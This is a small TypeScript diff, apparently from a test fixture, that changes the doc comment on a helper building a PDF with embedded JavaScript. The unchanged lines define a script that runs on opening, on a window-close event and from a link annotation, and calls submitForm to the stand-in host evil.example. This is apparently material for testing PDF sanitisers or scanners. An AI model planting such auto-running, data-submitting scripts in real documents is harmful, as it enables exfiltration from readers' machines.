@@ -24,7 +24,7 @@ const note = (action: string): string =>
   `<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/Border[0 0 0]/A<<${action}>>/AA<</E<<${action}>>>>>>`;
 const script = '/S/JavaScript/JS(app.alert("in"); this.submitForm("https://evil.example"))';
 
-/** Runs a script when opened and when touched, and wants to go elsewhere. */
+/** Runs a script on opening and on pointer events, and contains an action that opens another document. */
 export const scriptedPdf = (): Buffer =>
   pdfOf(...pages('0 0 200 200', '', `/OpenAction<<${script}>>/AA<</WC<<${script}>>>>`), stream(ink), note(script));
 
